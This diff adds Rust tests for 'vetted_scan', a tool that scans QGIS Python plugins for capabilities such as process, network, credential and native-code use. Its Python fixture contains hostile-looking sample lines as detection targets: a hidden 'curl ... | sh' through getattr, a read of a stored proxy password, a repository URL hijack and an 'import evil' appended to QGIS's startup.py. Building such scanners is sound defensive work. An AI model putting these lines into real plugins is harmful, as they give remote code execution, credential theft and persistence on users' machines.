@@ -1,0 +1,135 @@
+//! The capability manifest: what a plugin's code can do, found through aliases, `getattr`,
+//! computed imports and star imports, with evidence and literal targets, and never a secret.
+
+use vetted_scan::capabilities::CapabilityKind as K;
+use vetted_scan::{Report, ScanOptions, scan_path};
+
+const TOOL: &str = r#"import subprocess as sp
+from qgis.core import *
+from qgis.PyQt.QtCore import QSettings
+import importlib
+import ctypes
+import sys
+import qgis.utils
+
+
+def run(cmd):
+    sp.Popen(["gdalinfo", "x.tif"])
+    getattr(__import__("os"), "system")("curl http://203.0.113.7/x | sh")
+    importlib.import_module("requests").get("https://user:hunter2pass@example.org/data")
+    mod = importlib.import_module(cmd)
+    exec(compile(cmd, "<x>", "exec"))
+    nam = QgsNetworkAccessManager.instance()
+    QgsApplication.authManager()
+    s = QSettings()
+    s.value("proxy/proxyPassword")
+    QSettings().setValue("app/plugin_repositories/extra/url", "http://repo.example/plugins.xml")
+    with open("/home/u/.local/share/QGIS/QGIS3/profiles/default/python/startup.py", "a") as f:
+        f.write("import evil")
+    ctypes.CDLL("libc.so.6")
+    qgis.utils.showPluginHelp = run
+    sp.call("pip install somepkg", shell=True)
+    sys.path.insert(0, "/tmp/x")
+    return mod, nam
+"#;
+
+const QUIET: &str = r#"import os
+import json
+
+
+def label(layer):
+    name = os.path.join("a", "b")
+    return json.dumps({"name": name, "layer": layer.name()})
+"#;
+
+fn scan(files: &[(&str, &str)]) -> Report {
+    let dir = tempfile::tempdir().unwrap();
+    for (name, text) in files {
+        std::fs::write(dir.path().join(name), text).unwrap();
+    }
+    scan_path(dir.path(), &ScanOptions::default()).unwrap()
+}
+
+#[test]
+fn hidden_capabilities_are_found_with_their_targets() {
+    let report = scan(&[("tool.py", TOOL), ("quiet.py", QUIET)]);
+    let got: Vec<(K, &str, u32, Option<&str>)> = report
+        .capabilities
+        .iter()
+        .map(|c| (c.kind, c.api.as_str(), c.line, c.target.as_deref()))
+        .collect();
+    let expect: &[(K, &str, u32, Option<&str>)] = &[
+        (K::Process, "subprocess.Popen", 11, Some("gdalinfo x.tif")),
+        (
+            K::Process,
+            "os.system",
+            12,
+            Some("curl http://203.0.113.7/x | sh"),
+        ),
+        // detect-secrets sees the URL's password on this line: the target is dropped and the
+        // snippet is the secrets finding's masked one.
+        (K::Network, "requests.get", 13, None),
+        (K::DynamicCode, "importlib.import_module", 14, None),
+        (K::DynamicCode, "exec", 15, None),
+        (K::DynamicCode, "compile", 15, None),
+        (K::Network, "QgsNetworkAccessManager", 16, None),
+        (K::Credentials, "QgsApplication.authManager", 17, None),
+        (
+            K::Credentials,
+            "qgis.PyQt.QtCore.QSettings.value",
+            19,
+            Some("proxy/proxyPassword"),
+        ),
+        (
+            K::QgisEnvironment,
+            "qgis.PyQt.QtCore.QSettings.setValue",
+            20,
+            Some("app/plugin_repositories/extra/url"),
+        ),
+        (
+            K::QgisEnvironment,
+            "open",
+            21,
+            Some("/home/u/.local/share/QGIS/QGIS3/profiles/default/python/startup.py"),
+        ),
+        (K::NativeCode, "ctypes.CDLL", 23, Some("libc.so.6")),
+        (K::QgisEnvironment, "qgis.utils.showPluginHelp", 24, None),
+        (
+            K::Process,
+            "subprocess.call",
+            25,
+            Some("pip install somepkg"),
+        ),
+        (
+            K::Packages,
+            "subprocess.call",
+            25,
+            Some("pip install somepkg"),
+        ),
+        (K::Packages, "sys.path.insert", 26, None),
+    ];
+    for e in expect {
+        assert!(got.contains(e), "missing {e:?}; got {got:#?}");
+    }
+    assert!(
+        report.capabilities.iter().all(|c| c.path == "tool.py"),
+        "the quiet file has no capability: {got:#?}"
+    );
+    let json = serde_json::to_string(&report).unwrap();
+    assert!(!json.contains("hunter2pass"), "a URL password leaked");
+}
+
+#[test]
+fn the_text_report_says_what_the_plugin_can_do() {
+    let report = scan(&[("tool.py", TOOL)]);
+    let text = vetted_scan::report::text::render(
+        &report,
+        vetted_scan::report::text::Style { color: false },
+    );
+    assert!(text.contains("This plugin can:"), "{text}");
+    assert!(text.contains("talk to the network"), "{text}");
+    assert!(text.contains("start processes"), "{text}");
+    assert!(text.contains("change QGIS's settings or code"), "{text}");
+    let quiet = scan(&[("quiet.py", QUIET)]);
+    assert!(quiet.capabilities.is_empty());
+}
